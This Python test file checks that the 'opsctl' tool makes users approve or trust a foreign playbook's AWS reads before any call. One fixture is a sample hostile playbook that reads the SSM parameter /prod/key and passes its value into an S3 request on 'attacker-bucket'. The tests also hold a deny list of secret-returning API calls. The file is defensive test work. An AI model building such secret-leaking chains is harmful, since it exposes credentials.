"""A playbook that somebody else wrote: what it reads is shown and agreed to before the first call."""

import hashlib
import json
from pathlib import Path

import pytest

from opsctl.model.errors import InvalidInput, RefusedByGuard
from opsctl.model.settings import Settings
from opsctl.planning.foreign_reads import foreign_reads
from opsctl.playbook.load import load_playbook, parse_playbook, sum_of
from opsctl.playbook.places import shipped_directory, shipped_names
from opsctl.render.foreign_reads import lines_of, render_reads
from opsctl.sandbox.worlds.network import IMAGE
from opsctl.workflow.approval import agree_to_reads
from tests.kit.command import opsctl
from tests.kit.moto_account import WatchedServer, client
from tests.workflow.test_approval import NOBODY, Person

HEAD = """\
schema: opsctl.playbook/v1
name: check-tags
version: "0.1"
summary: Check the tags.
"""
CARRIES = (
    HEAD
    + """\
facts:
  one:
    read: ssm.GetParameter
    params: {Name: /prod/key}
    query: Parameter.Value
  three:
    read: s3.ListObjectsV2
    params: {Bucket: attacker-bucket, Prefix: "=facts.one"}
    query: "Name"
steps: []
"""
)
ONE_READ = (
    HEAD
    + """\
inputs:
  vpc: {type: string, default: ""}
facts:
  vpcs:
    read: ec2.DescribeVpcs
    query: "Vpcs[].VpcId"
steps: []
"""
)


def reads_in(text: str) -> list[str]:
    return lines_of(foreign_reads(parse_playbook((HEAD + text).encode(), "x.yaml").playbook))


def asked(
    text: str = CARRIES, *, person: Person = NOBODY, trusted: str = "", own: tuple[str, ...] = ()
) -> list[int]:
    loaded = parse_playbook(text.encode(), "x.yaml", hashlib.sha256(text.encode()).hexdigest())
    reads, shown = foreign_reads(loaded.playbook), list[int]()
    agree_to_reads(
        loaded,
        reads,
        trusted=trusted,
        settings=Settings(trusted_playbooks=own),
        prompter=person,
        show=lambda: shown.append(len(reads)),
        listed=lines_of(reads),
    )
    return shown


@pytest.mark.parametrize(
    ("operation", "params", "says"),
    [
        ("elasticache.TestFailover", "{ReplicationGroupId: prod, NodeGroupId: '0001'}", "not on the list"),
        ("apigateway.TestInvokeMethod", "{restApiId: a, resourceId: b, httpMethod: GET}", "not on the list"),
        ("secretsmanager.BatchGetSecretValue", "{SecretIdList: [prod-db]}", "kept secret"),
        ("secretsmanager.GetSecretValue", "{SecretId: prod-db}", "kept secret"),
        ("ssm.GetParameter", "{Name: /prod/key, WithDecryption: true}", "unless WithDecryption is false"),
        ("ssm.GetParameter", "{Name: /prod/key, WithDecryption: '=inputs.x'}", "unless WithDecryption is false"),
        ("sts.GetSessionToken", "{}", "kept secret"),
        ("s3.GetObject", "{Bucket: b, Key: k}", "what is stored"),
        ("stepfunctions.GetActivityTask", "{activityArn: a}", "does more than read"),
    ],
)
def test_what_acts_or_hands_out_secrets_is_refused_before_any_call(
    account: WatchedServer, tmp_path: Path, operation: str, params: str, says: str
) -> None:
    inputs = "inputs:\n  x: {type: bool, default: true}\n"
    text = f"{HEAD}{inputs}facts:\n  a:\n    read: {operation}\n    params: {params}\nsteps: []\n"
    (tmp_path / "a.yaml").write_text(text)
    done = opsctl(tmp_path, "run", "a.yaml", "--dry-run", "--trust-reads", "a.yaml")
    assert done.returncode == 2
    assert says in done.stderr
    assert account.calls == []


@pytest.mark.parametrize("switches", [(), ("--yes",), ("--dry-run",), ("--yes", "-o", "json")])
def test_without_a_terminal_and_without_trust_nothing_is_called(
    account: WatchedServer, tmp_path: Path, switches: tuple[str, ...]
) -> None:
    (tmp_path / "a.yaml").write_text(CARRIES)
    done = opsctl(tmp_path, "run", "a.yaml", *switches)
    assert done.returncode == 3
    assert account.calls == []
    assert (
        "s3.ListObjectsV2, fact three; Bucket: attacker-bucket; Prefix: =facts.one (from facts.one)" in done.stderr
    )
    assert hashlib.sha256(CARRIES.encode()).hexdigest() in done.stderr
    if "json" in switches:
        assert json.loads(done.stdout)["exit_code"] == 3


def test_plan_asks_as_run_does(account: WatchedServer, tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(CARRIES)
    assert opsctl(tmp_path, "plan", "a.yaml", "--out", "plan.json").returncode == 3
    assert account.calls == []
    assert not (tmp_path / "plan.json").exists()


def test_trust_by_sum_by_reviewed_file_or_by_ones_own_configuration(
    account: WatchedServer, tmp_path: Path
) -> None:
    (tmp_path / "a.yaml").write_text(ONE_READ)
    (tmp_path / "reviewed.yaml").write_text(ONE_READ)
    digest = hashlib.sha256(ONE_READ.encode()).hexdigest()
    run = ("run", "a.yaml", "--dry-run")
    assert opsctl(tmp_path, *run).returncode == 3
    for trust in (digest, f"sha256:{digest}", digest.upper(), "reviewed.yaml"):
        assert opsctl(tmp_path, *run, "--trust-reads", trust).returncode == 0, trust
    (tmp_path / "mine.yml").write_text(f"trusted_playbooks: [{digest}]\n")
    assert opsctl(tmp_path, *run, OPSCTL_CONFIG=str(tmp_path / "mine.yml")).returncode == 0


def test_the_configuration_of_a_directory_cannot_trust_a_playbook(account: WatchedServer, tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(ONE_READ)
    digest = hashlib.sha256(ONE_READ.encode()).hexdigest()
    (tmp_path / "opsctl.yaml").write_text(f"trusted_playbooks: [{digest}]\n")
    done = opsctl(tmp_path, "run", "a.yaml", "--dry-run")
    assert done.returncode == 2
    assert "only for your own configuration" in done.stderr
    assert account.calls == []


@pytest.mark.parametrize("wrong", ["abc", "no-such.yaml", "0" * 63, "g" * 64, "."])
def test_trust_that_is_neither_a_sum_nor_a_file_is_wrong_usage(wrong: str) -> None:
    with pytest.raises(InvalidInput, match="neither a SHA-256"):
        sum_of(wrong)


def test_a_playbook_that_was_changed_after_it_was_reviewed_is_not_the_trusted_one() -> None:
    reviewed = hashlib.sha256(CARRIES.replace("/prod/key", "/dev/key").encode()).hexdigest()
    with pytest.raises(RefusedByGuard, match="not the playbook that --trust-reads names"):
        asked(person=Person("y"), trusted=reviewed)
    with pytest.raises(RefusedByGuard, match="nobody has agreed"):
        asked(own=(reviewed,))


def test_a_person_is_shown_the_reads_and_asked() -> None:
    person = Person("y\n")
    assert asked(person=person) == [2]
    assert person.asked == ["Make these 2 reads? [y]es [n]o: "]
    person = Person(" YES ")
    assert asked(ONE_READ, person=person) == [1]
    assert person.asked == ["Make this 1 read? [y]es [n]o: "]


@pytest.mark.parametrize("answer", ["", "n", "no", "sure", "yes please"])
def test_anything_but_yes_to_the_reads_is_a_no(answer: str) -> None:
    with pytest.raises(RefusedByGuard, match="nothing was called"):
        asked(person=Person(answer))


def test_nothing_is_asked_for_what_is_trusted() -> None:
    person = Person("n")
    digest = hashlib.sha256(CARRIES.encode()).hexdigest()
    assert asked(person=person, trusted=digest) == []
    assert asked(person=person, own=(digest,)) == []
    assert person.asked == []


def test_a_playbook_without_reads_of_its_own_is_not_asked_for() -> None:
    text = f"{HEAD}facts:\n  a:\n    uses: guard.never_block\n    with: {{addresses: []}}\nsteps: []\n"
    assert asked(text, person=Person("n")) == []


@pytest.mark.parametrize("name", shipped_names())
def test_what_is_shipped_is_known_by_its_text_not_its_name(name: str, tmp_path: Path) -> None:
    text = (shipped_directory() / f"{name}.yaml").read_bytes()
    (tmp_path / "copy.yaml").write_bytes(text)
    (tmp_path / f"{name}.yaml").write_bytes(text + b"\n")
    assert load_playbook(name).shipped
    assert load_playbook(str(tmp_path / "copy.yaml")).shipped
    assert not load_playbook(str(tmp_path / f"{name}.yaml")).shipped


FACTS = """facts:
  one: {read: ec2.DescribeVpcs, query: "Vpcs[0].VpcId"}
  two: {read: ec2.DescribeTags, params: {Filters: [{Name: x, Values: [%s]}]}}
steps: []
"""


@pytest.mark.parametrize(
    ("expression", "source"),
    [
        ("=facts.one", "facts.one"),
        ("=join('-', ['a', facts.one])", "facts.one"),
        ("=facts . one", "facts.one"),
        ("=facts | one", "facts"),
        ('="facts".one', "facts.one"),
        ('=facts."one"', "facts.one"),
        ("=@.facts.one", "facts"),
        ("=*.one", "facts"),
        ("=values(@)[1]", "facts"),
        ("=facts.*", "facts"),
        ("=facts.[one]", "facts"),
        ("=merge(inputs, facts).one", "facts"),
        ("=[inputs.x, facts.one][1]", "facts.one"),
        ("={a: facts.one}.a", "facts.one"),
        ("=inputs.x || facts.one", "facts.one"),
    ],
)
def test_an_answer_that_goes_into_another_call_is_named_however_it_is_written(
    expression: str, source: str
) -> None:
    listed = reads_in(FACTS % json.dumps(expression))
    assert f"(from {source})" in listed[1]


@pytest.mark.parametrize("expression", ["=inputs.x", "=run.account", "plain facts.one", "==facts.one"])
def test_what_comes_from_inputs_or_is_plain_text_is_not_called_an_answer(expression: str) -> None:
    assert "(from" not in reads_in(FACTS % json.dumps(expression))[1]


def test_lookups_and_actions_are_listed_where_they_are_handed_what_a_raw_read_answered() -> None:
    listed = reads_in(
        """facts:
  key: {read: ssm.GetParameter, params: {Name: k}, query: Parameter.Value}
  ways: {uses: topology, with: {target: "=facts.key"}}
  more: {uses: topology, with: {target: "=facts.ways.target"}}
  plain: {uses: topology, with: {target: shop.example.com}}
steps:
  - {id: a, uses: waf.block, foreach: facts.more.ways, with: {address: "=each.x"}}
  - {id: b, uses: waf.block, foreach: facts.plain.ways, with: {address: "=each.x"}}
"""
    )
    assert listed == [
        "ssm.GetParameter, fact key; Name: k",
        "topology, fact ways, is handed what was read; target: =facts.key (from facts.key)",
        "topology, fact more, is handed what was read; target: =facts.ways.target (from facts.ways)",
        "waf.block, step a, is handed what was read; address: =each.x (from facts.more)",
    ]


def test_reads_of_expectations_and_proofs_are_listed_and_shown_whole() -> None:
    long = "x" * 3000
    text = f"""{HEAD}facts:
  one: {{read: ec2.DescribeVpcs, query: "Vpcs[0].VpcId"}}
steps:
  - id: tag
    call: ec2.CreateTags
    region: "=facts.one"
    params: {{Resources: [vpc-1], Tags: [{{Key: a, Value: b}}]}}
    why: because
    expect:
      - {{read: ec2.DescribeTags, params: {{Filters: [{{Name: "{long}"}}]}}, query: Tags, empty: true}}
    proof:
      - {{read: s3.ListObjectsV2, params: {{Bucket: b, Prefix: "=facts.one"}}, query: Contents, present: true}}
    undo: {{call: ec2.DeleteTags, params: {{Resources: [vpc-1]}}}}
"""
    loaded = parse_playbook(text.encode(), "x\x1b[2J.yaml", "0" * 64)
    shown = render_reads(loaded, foreign_reads(loaded.playbook), width=80, colour=False)
    assert "2. ec2.DescribeTags, expect of step tag" in shown
    assert "3. s3.ListObjectsV2, proof of step tag" in shown
    assert shown.count("x") >= len(long)
    assert "=facts.one (from facts.one)" in shown
    assert "\x1b" not in shown
    assert max(len(line) for line in shown.splitlines() if long not in line) <= 80


def test_secrets_are_masked_before_an_expression_sees_them(account: WatchedServer, tmp_path: Path) -> None:
    """The value is in no plan file, in no form of the plan, not in the journal, and in no call."""

    text = f"""{HEAD}facts:
  functions: {{read: ec2.DescribeInstances, query: "Reservations[].Instances[].Tags[]"}}
  passed: {{read: ec2.DescribeTags, params: {{Filters: [{{Name: value, Values: "=facts.functions[].Value"}}]}}}}
sections:
  - {{title: Seen, rows: facts.functions, columns: {{name: Key, value: Value}}}}
outputs: {{all: "=facts.functions"}}
guards:
  - {{id: found, warn: facts.functions, because: there are tags}}
steps: []
"""
    client("ec2").run_instances(
        ImageId=IMAGE,
        MinCount=1,
        MaxCount=1,
        TagSpecifications=[
            {"ResourceType": "instance", "Tags": [{"Key": "db_password", "Value": "hunter2-xyz"}]},
        ],
    )
    (tmp_path / "a.yaml").write_text(text)
    for form in ("text", "json", "markdown", "html"):
        done = opsctl(tmp_path, "run", "a.yaml", "-n", "--trust-reads", "a.yaml", "-o", form)
        assert done.returncode == 0, done.stderr
        assert "db" in done.stdout
        assert "hunter2" not in done.stdout + done.stderr
    assert opsctl(tmp_path, "plan", "a.yaml", "--trust-reads", "a.yaml", "--out", "p.json").returncode == 0
    assert "hunter2" not in (tmp_path / "p.json").read_text(encoding="utf-8")
    assert not [
        path for path in (tmp_path / "state").rglob("*") if path.is_file() and b"hunter2" in path.read_bytes()
    ]


STOPS_TO_UNDO = """\
steps:
  - id: note
    call: ec2.CreateTags
    params: {Resources: [=inputs.vpc], Tags: [{Key: note, Value: "1"}]}
    why: so that whoever looks knows
    expect: [{read: ec2.DescribeTags, query: "Tags[?Key=='note']", empty: true}]
    proof: [{read: ec2.DescribeTags, query: "Tags[?Key=='note']", present: true}]
    undo: {call: ec2.TerminateInstances, params: {InstanceIds: ["=facts.all[0]"]}}
    risk: {severity: low}
"""
STOPS_WHAT_A_QUERY_PICKS = """\
steps:
  - id: note
    call: ec2.CreateTags
    params: {Resources: [=inputs.vpc], Tags: [{Key: note, Value: "1"}]}
    why: so that whoever looks knows
    proof:
      - {read: ec2.DescribeInstances, query: "Reservations[?ReservationId=='never']", present: true}
      - {read: ec2.DescribeTags, query: "Tags[?Key=='note']", present: true}
    undo: none
    because: it stays
    outputs: {made: "Reservations[0].Instances[0].InstanceId"}
  - id: tidy
    call: ec2.TerminateInstances
    params: {InstanceIds: [=steps.note.made]}
    why: it is not needed
    proof: [{read: ec2.DescribeInstances, query: "Reservations[?ReservationId=='never']", present: true}]
    undo: none
    because: it is gone
    risk: {severity: low}
"""


def written(home: Path, steps: str) -> tuple[str, ...]:
    made = client("ec2").run_instances(ImageId=IMAGE, MinCount=1, MaxCount=1)["Instances"][0]
    facts = "inputs:\n  vpc: {type: string, required: true}\nfacts:\n  all: {read: ec2.DescribeInstances, "
    (home / "a.yaml").write_text(f'{HEAD}{facts}query: "Reservations[].Instances[].InstanceId"}}\n{steps}')
    return ("a.yaml", "--set", f"vpc={made['VpcId']}", "--trust-reads", "a.yaml")


def test_an_undo_that_stops_an_instance_is_severe_whatever_it_takes_back(
    account: WatchedServer, tmp_path: Path
) -> None:
    done = opsctl(tmp_path, "run", *written(tmp_path, STOPS_TO_UNDO), "--yes", "--skip-permission-check")
    assert done.returncode == 0, done.stderr
    shown = opsctl(tmp_path, "undo", "last", "-n", "-o", "json")
    assert [one["risk"]["severity"] for one in json.loads(shown.stdout)["result"]["changes"]] == ["severe"]
    undone = opsctl(tmp_path, "undo", "last", "--yes", "--skip-permission-check")
    assert (undone.returncode, "--confirm" in undone.stderr) == (3, True)
    (found,) = client("ec2").describe_instances()["Reservations"]
    assert found["Instances"][0]["State"]["Name"] == "running"


def test_what_a_query_of_the_playbook_picks_is_not_taken_for_what_it_made(
    account: WatchedServer, tmp_path: Path
) -> None:
    shown = opsctl(tmp_path, "run", *written(tmp_path, STOPS_WHAT_A_QUERY_PICKS), "-n", "-o", "json")
    changes = json.loads(shown.stdout)["result"]["changes"]
    assert [one["risk"]["severity"] for one in changes] == ["low", "severe"]


def test_show_lists_the_reads_and_prints_the_sum_as_validate_does(tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(CARRIES)
    digest = hashlib.sha256(CARRIES.encode()).hexdigest()
    shown = opsctl(tmp_path, "playbook", "show", "a.yaml").stdout
    assert f"sha256 {digest}" in shown
    assert "Bucket: attacker-bucket; Prefix: =facts.one (from facts.one)" in shown
    assert opsctl(tmp_path, "playbook", "validate", "a.yaml").stdout == f"a.yaml: valid, sha256 {digest}\n"
    for command in ("show", "validate"):
        done = opsctl(tmp_path, "playbook", command, "a.yaml", "-o", "json")
        assert digest in done.stdout
